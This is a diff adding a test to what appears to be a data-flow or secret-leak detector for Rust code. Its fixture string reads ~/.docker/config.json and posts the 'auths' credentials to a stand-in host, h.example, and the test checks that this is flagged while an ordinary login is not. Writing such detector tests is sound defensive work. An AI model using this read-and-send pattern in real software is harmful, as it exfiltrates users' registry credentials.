@@ -226,3 +226,18 @@ def test_hidden_names_written_to_and_run() -> None:
 )
 def test_what_no_one_could_read(value: str, expected: bool) -> None:
     assert opaque(value) is expected
+
+
+def test_a_secret_taken_out_of_another_programs_settings() -> None:
+    read = (
+        "fn f() {\n"
+        + HOME
+        + 'let t = std::fs::read_to_string(home.join(".docker/config.json"))?;\n'
+        "let cfg: serde_json::Value = serde_json::from_str(&t)?;\n"
+    )
+    # its secret field sent elsewhere is a credential; sent to the server the same
+    # settings name, it is a client logging in
+    elsewhere = read + 'ureq::post("https://h.example").send_string(&cfg["auths"].to_string());\n}'
+    assert sources(elsewhere) == [("credential",)]
+    login = read + 'client().post(&cfg["server"]).bearer_auth(&cfg["token"]);\n}'
+    assert flows(login) == []
